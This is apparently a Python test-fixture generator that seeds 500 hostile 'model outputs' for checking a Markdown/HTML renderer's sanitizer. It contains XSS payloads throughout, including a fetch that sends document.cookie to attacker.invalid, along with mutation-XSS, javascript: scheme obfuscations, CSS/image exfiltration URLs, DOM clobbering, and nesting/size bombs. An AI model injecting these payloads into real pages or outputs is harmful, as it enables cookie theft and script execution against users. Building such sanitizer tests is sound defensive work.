"""500 model outputs that mean harm, each made from its number: the same text every time."""

from __future__ import annotations

import base64
import random
from collections.abc import Callable

N = 500
AWAY = "http://attacker.invalid"
RUN = "window.__ran=1;alert(1);fetch('http://attacker.invalid/'+document.cookie)"
HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onbeforeprint",
    "onpointerenter",
]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java&#10;script:",
    "&#106;avascript:",
    "data:text/html,",
    "vbscript:",
    "file:///",
]


def script(dice: random.Random) -> str:
    tag = dice.choice(["script", "SCRIPT", "scr\x00ipt", "script ", "svg><script", "math><script"])
    return f"Before\n\n<{tag}>{RUN}</{tag}>\n\nafter <{tag} src={AWAY}/x.js></{tag}>"


def handler(dice: random.Random) -> str:
    name, tag = (
        dice.choice(HANDLERS),
        dice.choice(["img", "body", "details open", "video", "input autofocus", "iframe", "marquee"]),
    )
    quote = dice.choice(["", '"', "'", "`"])
    return f"<{tag} src=x {name}={quote}{RUN}{quote}>\n\nText <b {name}={quote}{RUN}{quote}>bold</b>"


def svg(dice: random.Random) -> str:
    inside = dice.choice(
        [
            f"<script>{RUN}</script>",
            f"<a xlink:href='javascript:{RUN}'><text>x</text></a>",
            f"<image href='{AWAY}/p.png'/>",
            f"<foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject>",
            f"<animate onbegin='{RUN}' attributeName=x dur=1s>",
            f"<use href='data:image/svg+xml;base64,{base64.b64encode(RUN.encode()).decode()}#x'/>",
        ]
    )
    return f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'>{inside}</svg>"


def style(dice: random.Random) -> str:
    return dice.choice(
        [
            f"<style>@import '{AWAY}/x.css'; body{{background:url({AWAY}/b)}}</style>",
            f'<div style="background:url({AWAY}/b);position:fixed;inset:0">over all</div>',
            f"<link rel=stylesheet href={AWAY}/x><base href={AWAY}/><meta http-equiv=refresh content='0;url={AWAY}'>",
            f"| a |\n|:-:|\n| <td style='background:url({AWAY}/c)'> |",
        ]
    )


def address(dice: random.Random) -> str:
    url = dice.choice(SCHEMES) + dice.choice([RUN, f"<script>{RUN}</script>", base64.b64encode(RUN.encode()).decode()])
    return dice.choice(
        [f"[press]({url})", f"[press](<{url}>)", f"[press]: {url}\n\n[press]", f"<{url}>", f'<a href="{url}">press</a>']
    )


def picture(dice: random.Random) -> str:
    url = dice.choice(
        [f"{AWAY}/leak?q=secret", "//attacker.invalid/x", f"data:image/svg+xml,<svg onload='{RUN}'/>", "/api/logout"]
    )
    return dice.choice(
        [f"![alt]({url})", f'![alt"onerror="{RUN}]({url})', f"[![alt]({url})]({url})", f'<img src="{url}">']
    )


def mathml(dice: random.Random) -> str:
    return dice.choice(
        [
            f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
            f"<math href='javascript:{RUN}'><maction actiontype='statusline#{AWAY}'>x</maction></math>",
            f"$\\href{{javascript:{RUN}}}{{x}}$ and $\\url{{{AWAY}}}$",
            f"$\\includegraphics{{{AWAY}/x.png}}$ $\\htmlData{{x=1}}{{y}}$ $\\htmlStyle{{color:url({AWAY})}}{{z}}$",
            r"$$\def\a{\a\a}\a$$ $\newcommand{\b}{\b\b}\b$",
            r"$\rule{9999999em}{9999999em}$ $$\Huge{" + r"\frac{1}{" * 60 + "x" + "}" * 60 + "}$$",
        ]
    )


def mutation(dice: random.Random) -> str:
    return dice.choice(
        [
            f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
            f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
            f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
            f"```html\n</code></pre><img src=x onerror={RUN}>\n```",
            f'```x" onmouseover="{RUN}\ncode\n```',
            f"<template><script>{RUN}</script></template><a id=cookie name=cookie>clobber</a>",
            f"<textarea></textarea><img src=x onerror={RUN}><title></title>",
        ]
    )


def deep(dice: random.Random) -> str:
    n = dice.choice([200, 2_000, 6_000])
    return dice.choice(
        [
            "> " * n + "x",
            "".join("  " * (at % 200) + "- x\n" for at in range(n)),
            "[" * n + "x" + "](y)" * n,
            "*" * n + "a" + "*" * n,
        ]
    )


def huge(dice: random.Random) -> str:
    n = dice.choice([5_000, 20_000, 60_000])
    return dice.choice(
        [
            "a" * n,
            "word " * (n // 5),
            "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * (n // 40),
            "```python\n" + "x = [1, 2, 3]  # note\n" * (n // 22) + "```",
            "$x$ " * (n // 40),
            "`" * n,
            "![" * (n // 4),
            "<!--" * (n // 8) + RUN,
            "\n".join(f"{at}. item" for at in range(n // 60)),
        ]
    )


def letters(dice: random.Random) -> str:
    odd = [
        "\u202e",
        "\u0000",
        "\ufeff",
        "\u2028",
        "Z" + "\u0335\u0336" * 200,
        "\U000e0041" * 50,
        "\u200d" * 500,
        "﷽" * 200,
    ]
    return "".join(dice.choices(odd, k=20)) + f"<img src=x onerror={RUN}>"


KINDS: tuple[Callable[[random.Random], str], ...] = (
    script, handler, svg, style, address, picture, mathml, mutation, deep, huge, letters,
)  # fmt: skip


def output(number: int) -> str:
    """One of them; every third holds two kinds at once."""
    dice = random.Random(number)
    text = KINDS[number % len(KINDS)](dice)
    return text if number % 3 else text + "\n\n" + dice.choice(KINDS[:8])(dice)
